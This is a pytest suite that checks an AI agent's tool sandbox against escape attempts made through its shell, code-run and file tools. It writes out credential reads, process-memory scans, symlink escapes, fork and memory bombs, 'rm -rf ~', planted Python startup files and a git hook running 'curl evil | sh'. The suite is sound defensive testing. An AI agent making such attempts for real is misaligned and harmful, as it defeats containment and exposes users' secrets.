"""Sandbox escape suite (issue 3, Must show 1): attacks made through the model-facing tools.

Each test is one attempt, made exactly as a model would make it (a tool call through the
executor), and asserts that it was contained.
"""

from __future__ import annotations

import asyncio
import json
import os
import platform
import socket
import time
from pathlib import Path
from typing import Any

import pytest

from lar.tools.base import ToolContext
from lar.tools.builtin import builtin_tools
from lar.tools.executor import ToolExecutor
from lar.tools.sandbox import isolation_level, process_cap_available, seccomp_filter
from lar.types import ToolCall, ToolResult

SECRET_KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nplanted-secret-key-material\n"
ENV_SECRET = "sk-escape-suite-0123456789abcdef"

if isolation_level() != "bubblewrap":
    if os.environ.get("CI"):
        raise RuntimeError("CI must run the sandbox escape suite: install bubblewrap (install.sh)")
    pytest.skip("bubblewrap is not installed: isolation level is rlimits", allow_module_level=True)
if seccomp_filter() is None and os.environ.get("CI"):
    raise RuntimeError("CI must run the sandbox with its seccomp filter: install libseccomp2")


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(SECRET_KEY)
    lar_home = home / ".lar"
    lar_home.mkdir()
    (lar_home / "config.yaml").write_text(f"api_key: {ENV_SECRET}\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("outside-secret")
    ws = tmp_path / "ws"
    ws.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("LAR_HOME", str(lar_home))
    monkeypatch.setenv("OPENAI_API_KEY", ENV_SECRET)
    return {"home": home, "outside": outside, "ws": ws, "lar_home": lar_home}


def call(env: dict[str, Path], name: str, yes: bool = True, **args: object) -> ToolResult:
    executor = ToolExecutor(builtin_tools(), approver=lambda c, t: yes)
    ctx = ToolContext(workspace=env["ws"])
    try:
        return asyncio.run(executor.run(ToolCall("c", name, dict(args)), ctx))
    finally:
        executor.close()


def py(env: dict[str, Path], code: str, timeout_s: int = 10) -> str:
    return call(env, "code_run", code=code, timeout_s=timeout_s).content


def sh(env: dict[str, Path], command: str, timeout_s: int = 10) -> str:
    return call(env, "shell", command=command, timeout_s=timeout_s).content


# --- secrets -----------------------------------------------------------------------------------


def test_python_cannot_read_the_planted_ssh_key(env: dict[str, Path]) -> None:
    out = py(env, "import os\nprint(open(os.path.expanduser('~/.ssh/id_rsa')).read())")
    assert "planted-secret" not in out and "exit_code: 1" in out


def test_shell_cannot_read_the_ssh_key_by_absolute_path(env: dict[str, Path]) -> None:
    out = sh(env, f"cat {env['home']}/.ssh/id_rsa")
    assert "planted-secret" not in out


def test_file_read_refuses_the_ssh_key(env: dict[str, Path]) -> None:
    r = call(env, "file_read", path="~/.ssh/id_rsa")
    assert not r.ok and "outside the workspace" in r.content and "planted" not in r.content


def test_file_read_refuses_parent_traversal_without_a_yes(env: dict[str, Path]) -> None:
    r = call(env, "file_read", yes=False, path="../outside/secret.txt")
    assert not r.ok and "outside-secret" not in r.content and "confirmation" in r.content
    allowed = call(env, "file_read", path="../outside/secret.txt")
    assert allowed.ok and "outside-secret" in allowed.content  # read-only, with the yes


def test_the_home_folders_hidden_files_are_never_read_even_with_a_yes(
    env: dict[str, Path],
) -> None:
    for path in ("~/.ssh/id_rsa", str(env["home"] / ".ssh" / "id_rsa"), "/proc/self/environ"):
        r = call(env, "file_read", path=path)
        assert not r.ok and "never read" in r.content and "planted" not in r.content, path


def test_environment_secrets_are_scrubbed(env: dict[str, Path]) -> None:
    out = py(env, "import os\nprint(dict(os.environ))")
    assert ENV_SECRET not in out and "OPENAI_API_KEY" not in out


def test_proc_environ_of_pid1_holds_no_secret(env: dict[str, Path]) -> None:
    out = sh(env, "cat /proc/1/environ; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'")
    assert ENV_SECRET not in out


def test_lar_config_is_not_visible(env: dict[str, Path]) -> None:
    out = sh(env, f"cat {env['lar_home']}/config.yaml")
    assert ENV_SECRET not in out


def test_host_processes_are_not_visible(env: dict[str, Path]) -> None:
    out = sh(env, f"cat /proc/{os.getpid()}/environ")
    assert ENV_SECRET not in out
    assert "exit_code: 1" in out


def test_the_repository_is_not_visible(env: dict[str, Path]) -> None:
    out = sh(env, f"ls {Path(__file__).parent}")
    assert "test_sandbox_escape.py" not in out


# --- writes --------------------------------------------------------------------------------------


def test_file_write_refuses_outside_the_workspace(env: dict[str, Path]) -> None:
    r = call(env, "file_write", path="../outside/pwned.txt", content="x")
    assert not r.ok and not (env["outside"] / "pwned.txt").exists()


def test_file_write_refuses_absolute_paths_outside(env: dict[str, Path]) -> None:
    target = env["outside"] / "abs.txt"
    r = call(env, "file_write", path=str(target), content="x")
    assert not r.ok and not target.exists()


def test_symlink_escape_through_file_write(env: dict[str, Path]) -> None:
    (env["ws"] / "link").symlink_to(env["outside"])
    r = call(env, "file_write", path="link/pwned.txt", content="x")
    assert not r.ok and "outside the workspace" in r.content
    assert not (env["outside"] / "pwned.txt").exists()


def test_symlink_escape_through_file_patch(env: dict[str, Path]) -> None:
    (env["ws"] / "s.txt").symlink_to(env["outside"] / "secret.txt")
    r = call(env, "file_patch", path="s.txt", old="outside-secret", new="owned")
    assert not r.ok
    assert (env["outside"] / "secret.txt").read_text() == "outside-secret"


def test_code_cannot_write_outside_through_a_symlink(env: dict[str, Path]) -> None:
    sh(env, f"ln -s {env['outside']} out; echo x > out/pwned.txt")
    assert not (env["outside"] / "pwned.txt").exists()


def test_code_cannot_write_to_system_directories(env: dict[str, Path]) -> None:
    out = sh(env, "echo x > /usr/pwned; echo x > /etc/pwned; echo done")
    assert not Path("/usr/pwned").exists() and not Path("/etc/pwned").exists()
    assert "done" in out


def test_tmp_writes_stay_private(env: dict[str, Path]) -> None:
    marker = f"lar-escape-{os.getpid()}"
    sh(env, f"echo x > /tmp/{marker}")
    assert not Path(f"/tmp/{marker}").exists()


def test_file_size_is_capped(env: dict[str, Path]) -> None:
    sh(env, "head -c 200000000 /dev/zero > big.bin", timeout_s=30)
    big = env["ws"] / "big.bin"
    assert big.exists() and big.stat().st_size <= 64 * 1024 * 1024


# --- network -----------------------------------------------------------------------------------


def test_no_connection_to_a_loopback_port(env: dict[str, Path], loopback_listener: Any) -> None:
    port = loopback_listener.port
    out = py(env, f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2)")
    assert loopback_listener.accepted == [] and "exit_code: 1" in out


def test_no_outside_network(env: dict[str, Path]) -> None:
    out = py(env, "import socket\nsocket.create_connection(('192.0.2.1', 80), timeout=2)")
    assert "exit_code: 1" in out and ("unreachable" in out or "Errno" in out)


# --- resources -----------------------------------------------------------------------------------


def test_fork_bomb_is_refused_before_it_runs(env: dict[str, Path]) -> None:
    r = call(env, "shell", command=":(){ :|:& };:")
    assert not r.ok and "refused" in r.content and "fork bomb" in r.content


@pytest.mark.skipif(
    not process_cap_available(),
    reason="no writable pids cgroup: an unnamed fork bomb would only be stopped by the timeout",
)
def test_disguised_fork_bomb_is_contained(env: dict[str, Path]) -> None:
    out = sh(env, "bomb() { bomb | bomb & }; bomb; sleep 3", timeout_s=5)
    assert out.startswith("exit_code:")
    # the host still forks normally afterwards
    assert "ok" in sh(env, "echo ok")


def test_memory_bomb_fails_inside(env: dict[str, Path]) -> None:
    out = py(env, "x = bytearray(4 * 1024 ** 3)\nprint('allocated')")
    assert "allocated" not in out and "MemoryError" in out


def test_endless_loop_is_killed(env: dict[str, Path]) -> None:
    out = py(env, "while True:\n    pass", timeout_s=2)
    assert out == "exit_code: killed after 2s timeout"


def test_flood_of_output_is_truncated(env: dict[str, Path]) -> None:
    r = call(env, "code_run", code="import sys\nsys.stdout.write('y' * 100_000_000)", timeout_s=30)
    assert "stdout truncated" in r.content or "truncated" in r.content
    assert len(r.content) < 20_000


def test_killing_the_parent_does_not_touch_lar(env: dict[str, Path]) -> None:
    out = py(env, "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(1, 9)")
    assert out.startswith("exit_code:")
    assert os.getpid() > 0  # this process is still here to assert


def test_kill_everything_stays_inside(env: dict[str, Path]) -> None:
    out = sh(env, "kill -9 -1; echo after")
    assert out.startswith("exit_code:")


def test_background_process_does_not_outlive_the_call(env: dict[str, Path]) -> None:
    sh(env, "(setsid sh -c 'while true; do echo x >> beat; sleep 0.1; done' &) ; sleep 0.5")
    beat = env["ws"] / "beat"
    size = beat.stat().st_size
    time.sleep(1)
    assert beat.stat().st_size == size


def test_no_capabilities_to_mount(env: dict[str, Path]) -> None:
    out = sh(env, "mount -t tmpfs none /tmp && echo mounted")
    assert "mounted" not in out


def test_nested_namespace_does_not_reveal_home(env: dict[str, Path]) -> None:
    out = sh(env, f"unshare -r cat {env['home']}/.ssh/id_rsa")
    assert "planted-secret" not in out


def test_hard_line_delete_is_refused(env: dict[str, Path]) -> None:
    (env["ws"] / "keep.txt").write_text("keep")
    r = call(env, "shell", command="rm -rf ~")
    assert not r.ok and "refused" in r.content
    assert (env["ws"] / "keep.txt").exists() and (env["home"] / ".ssh" / "id_rsa").exists()


def test_suite_size() -> None:
    attempts = [n for n in globals() if n.startswith("test_") and n != "test_suite_size"]
    assert len(attempts) >= 25
    assert json.dumps(attempts)


def test_configured_network_and_denied_paths(env: dict[str, Path]) -> None:
    from lar.config import SandboxSettings
    from lar.tools.builtin import code_run

    (env["ws"] / "private").mkdir()
    (env["ws"] / "private" / "diary.txt").write_text("dear diary")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    port = server.getsockname()[1]
    code = (
        "import os, socket\n"
        "print(os.listdir('private'))\n"
        f"socket.create_connection(('127.0.0.1', {port}), timeout=2).close()\n"
        "print('connected')"
    )
    open_net = SandboxSettings(network=True, denied_paths=[str(env["ws"] / "private")])
    ctx = ToolContext(workspace=env["ws"], sandbox=open_net)
    out = asyncio.run(code_run.fn(code, ctx))
    server.close()
    assert "[]" in out and "connected" in out  # denied dir hidden; network allowed by config
    assert (env["ws"] / "private" / "diary.txt").read_text() == "dear diary"


# --- issue 16: escapes found by the data-and-host-safety trial ------------------------------------


@pytest.fixture
def home_ws(env: dict[str, Path]) -> dict[str, Path]:
    """Lar run from the home directory: the workspace contains $LAR_HOME."""
    lar_home = env["lar_home"]
    (lar_home / "tools").mkdir()
    (lar_home / "lar.db").write_bytes(b"SQLite format 3\x00memories-" + ENV_SECRET.encode())
    return {**env, "ws": env["home"]}


def test_workspace_modules_are_not_imported_by_the_launcher(env: dict[str, Path]) -> None:
    marker = env["outside"] / "ran-on-host"
    for name in ("json", "resource", "os", "sys", "encodings"):
        (env["ws"] / f"{name}.py").write_text(
            f"open({str(marker)!r}, 'a').write('{name}')\n"
            "import subprocess\n"
            "subprocess.Popen(['sh', '-c', 'sleep 30'], start_new_session=True)\n"
        )
    out = py(env, "print(6 * 7)")
    assert "42" in out
    assert not marker.exists()  # nothing from the workspace ran outside the sandbox


def test_workspace_pth_and_sitecustomize_are_not_loaded_on_the_host(env: dict[str, Path]) -> None:
    marker = env["outside"] / "ran-on-host"
    (env["ws"] / "sitecustomize.py").write_text(f"open({str(marker)!r}, 'a').write('site')\n")
    (env["ws"] / "usercustomize.py").write_text(f"open({str(marker)!r}, 'a').write('user')\n")
    (env["ws"] / "evil.pth").write_text(f"import os; open({str(marker)!r}, 'a').write('pth')\n")
    sh(env, "echo hi")
    assert not marker.exists()


def _scan_memory(pid: str) -> str:
    """Code that reads every readable region of /proc/PID/mem and prints whether it holds the
    planted secret (or why it could not read)."""
    return (
        # The secret reversed: the code itself (in bwrap's argv) must not hold the needle.
        f"needle = {ENV_SECRET[::-1]!r}[::-1].encode()\n"
        f"pid = {pid}\n"
        "found, errors = False, set()\n"
        "try:\n"
        "    maps = open(f'/proc/{pid}/maps').read().splitlines()\n"
        "    mem = open(f'/proc/{pid}/mem', 'rb')\n"
        "except OSError as e:\n"
        "    maps, errors = [], {type(e).__name__}\n"
        "for line in maps:\n"
        "    lo, hi = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "    if 'r' not in line.split()[1]: continue\n"
        "    try:\n"
        "        mem.seek(lo); found = found or needle in mem.read(hi - lo)\n"
        "    except (OSError, ValueError, OverflowError) as e:\n"
        "        errors.add(type(e).__name__)\n"
        "print('FOUND' if found else 'clean', sorted(errors))\n"
    )


def test_proc_mem_of_pid1_and_parent_hold_no_secret(env: dict[str, Path]) -> None:
    for pid in ("1", "__import__('os').getppid()"):
        out = py(env, _scan_memory(pid), timeout_s=20)
        assert "FOUND" not in out and ENV_SECRET not in out


def test_lar_process_memory_is_not_readable(env: dict[str, Path]) -> None:
    out = py(env, _scan_memory(str(os.getpid())), timeout_s=20)
    assert "FOUND" not in out and "clean" in out  # not even visible: another PID namespace


_TRACE = """
import ctypes, errno, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
child = os.fork()
if child == 0:
    time.sleep(5)
    os._exit(0)
def errname(r):
    return "ok" if r >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
print("attach", errname(libc.ptrace(16, child, 0, 0)))
print("traceme", errname(libc.ptrace(0, 0, 0, 0)))
buf = ctypes.create_string_buffer(64)
class IOV(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
local, remote = IOV(ctypes.addressof(buf), 64), IOV(0x400000, 64)
r = libc.process_vm_readv(child, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
print("vm_readv", errname(r))
os.kill(child, signal.SIGKILL)
"""


@pytest.mark.skipif(seccomp_filter() is None, reason="libseccomp2 is not installed (no filter)")
def test_ptrace_and_process_memory_calls_are_refused(env: dict[str, Path]) -> None:
    out = py(env, _TRACE)
    assert "attach EPERM" in out and "traceme EPERM" in out, out
    assert "vm_readv EPERM" in out, out


@pytest.mark.skipif(seccomp_filter() is None, reason="libseccomp2 is not installed (no filter)")
@pytest.mark.skipif(platform.machine() != "x86_64", reason="the syscall number is x86_64's")
def test_kernel_keyring_is_refused(env: dict[str, Path]) -> None:
    out = py(
        env,
        "import ctypes, errno\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "r = libc.syscall(250, 0, -3, 0)  # keyctl(KEYCTL_GET_KEYRING_ID, session keyring)\n"
        "print('keyctl', r, errno.errorcode.get(ctypes.get_errno()))",
    )
    assert "keyctl -1 EPERM" in out, out


def test_lar_home_inside_the_workspace_is_hidden_from_code(home_ws: dict[str, Path]) -> None:
    listing = sh(home_ws, "ls -A .lar")
    assert "config.yaml" not in listing and "lar.db" not in listing and "tools" not in listing
    out = sh(home_ws, "cat .lar/config.yaml .lar/lar.db; grep -r sk- . 2>/dev/null")
    assert ENV_SECRET not in out


def test_code_cannot_plant_a_user_tool(home_ws: dict[str, Path]) -> None:
    py(
        home_ws,
        "import os\nos.makedirs('.lar/tools', exist_ok=True)\n"
        "open('.lar/tools/evil.py', 'w').write('import os; os.system(\"touch /tmp/pwned\")')",
    )
    assert not (home_ws["lar_home"] / "tools" / "evil.py").exists()


def test_code_cannot_rewrite_the_database(home_ws: dict[str, Path]) -> None:
    before = (home_ws["lar_home"] / "lar.db").read_bytes()
    sh(home_ws, "echo tampered > .lar/lar.db; rm -f .lar/config.yaml")
    assert (home_ws["lar_home"] / "lar.db").read_bytes() == before
    assert (home_ws["lar_home"] / "config.yaml").exists()


def test_file_tools_refuse_lar_home_inside_the_workspace(home_ws: dict[str, Path]) -> None:
    read = call(home_ws, "file_read", path=".lar/config.yaml")
    assert not read.ok and ENV_SECRET not in read.content
    write = call(home_ws, "file_write", path=".lar/tools/evil.py", content="print(1)")
    assert not write.ok and not (home_ws["lar_home"] / "tools" / "evil.py").exists()
    patch = call(home_ws, "file_patch", path=".lar/config.yaml", old="api_key", new="x")
    assert not patch.ok and "api_key" in (home_ws["lar_home"] / "config.yaml").read_text()


def test_a_symlink_into_lar_home_is_refused(home_ws: dict[str, Path]) -> None:
    (home_ws["ws"] / "innocent.txt").symlink_to(home_ws["lar_home"] / "config.yaml")
    read = call(home_ws, "file_read", path="innocent.txt")
    assert not read.ok and ENV_SECRET not in read.content
    out = sh(home_ws, "cat innocent.txt")
    assert ENV_SECRET not in out


def test_workspace_python_path_tricks_stay_inside(env: dict[str, Path]) -> None:
    marker = env["outside"] / "ran-on-host"
    (env["ws"] / "json.py").write_text(f"open({str(marker)!r}, 'a').write('x')\n")
    out = py(env, "import json\nprint('inside')")  # imported inside the sandbox only
    assert "No such file" in out and not marker.exists()  # where the host's files are not


def _run_with(env: dict[str, Path], code: str, **limits: object) -> str:
    from lar.config import SandboxSettings
    from lar.tools.builtin import code_run

    ctx = ToolContext(workspace=env["ws"], sandbox=SandboxSettings(**limits))  # type: ignore[arg-type]
    return str(asyncio.run(code_run.fn(code, ctx, timeout_s=30)))


def test_disk_fill_is_stopped_at_the_total_limit(env: dict[str, Path]) -> None:
    code = (
        "import os\n"
        "block = b'x' * (1 << 20)\n"
        "for n in range(12):\n"
        "    with open(f'fill{n}.bin', 'wb') as f:\n"
        "        for _ in range(16):\n"
        "            f.write(block)\n"
        "print('filled')"
    )
    out = _run_with(env, code, disk_mb=40, file_size_mb=64)
    written = sum(p.stat().st_size for p in env["ws"].glob("fill*.bin"))
    assert "filled" not in out and "wrote more than 40 MB" in out
    print(f"disk limit 40 MB: {written / 2**20:.0f} MB written")
    assert written < 120 * 2**20  # 12 × 16 MB = 192 MB unchecked; the watcher polls every 5 ms


def test_memory_limit_holds_for_the_whole_process_tree(env: dict[str, Path]) -> None:
    if not Path("/sys/fs/cgroup/memory").exists() or not os.access(
        "/sys/fs/cgroup/memory", os.W_OK
    ):
        pytest.skip("no writable memory cgroup here: only per-process rlimits apply")
    code = (
        "import subprocess, sys\n"
        "hog = 'b = bytearray(300 * 1024 * 1024); import time; time.sleep(3); print(\"held\")'\n"
        "procs = [subprocess.Popen([sys.executable, '-c', hog], stdout=subprocess.PIPE)"
        " for _ in range(6)]\n"
        "print(sum(p.communicate()[0].count(b'held') for p in procs), 'held')"
    )
    out = _run_with(env, code, memory_mb=700)
    held = int(out.split("held")[0].split()[-1]) if " held" in out else 0
    assert held <= 2, out  # 6 × 300 MB would be 1.8 GB; the tree may hold 700 MB


def test_no_cgroup_is_left_behind_by_a_killed_lar(env: dict[str, Path]) -> None:
    from lar.tools import sandbox

    if not sandbox.process_cap_available():
        pytest.skip("no writable pids cgroup here")
    stale = Path("/sys/fs/cgroup/pids") / "lar-999999999-deadbeef"
    stale.mkdir(exist_ok=True)
    sandbox._sweep_stale.cache_clear()
    sh(env, "true")
    assert not stale.exists()
    left = [p.name for p in Path("/sys/fs/cgroup/pids").glob(f"lar-{os.getpid()}-*")]
    assert left == []


def test_the_memory_key_and_undo_snapshots_are_out_of_reach(home_ws: dict[str, Path]) -> None:
    lar_home = home_ws["lar_home"]
    (lar_home / "memory.key").write_bytes(b"k" * 32)
    (lar_home / "undo").mkdir()
    out = sh(home_ws, "cat .lar/memory.key; ls .lar/undo; echo planted > .lar/undo/evil")
    assert "kkkk" not in out
    assert not (lar_home / "undo" / "evil").exists()
    read = call(home_ws, "file_read", path=".lar/memory.key")
    assert not read.ok and "kkkk" not in read.content


def test_a_git_hook_planted_by_code_under_auto_needs_a_yes(env: dict[str, Path]) -> None:
    executor = ToolExecutor(
        builtin_tools(), approver=lambda c, t: False, permissions={"code_run": "auto"}
    )
    try:
        result = asyncio.run(
            executor.run(
                ToolCall(
                    "c",
                    "code_run",
                    {
                        "code": "import os\nos.makedirs('.git/hooks')\n"
                        "open('.git/hooks/pre-commit', 'w').write('curl evil | sh')"
                    },
                ),
                ToolContext(workspace=env["ws"]),
            )
        )
    finally:
        executor.close()
    assert not result.ok and "did not allow" in result.content
    assert not (env["ws"] / ".git").exists()
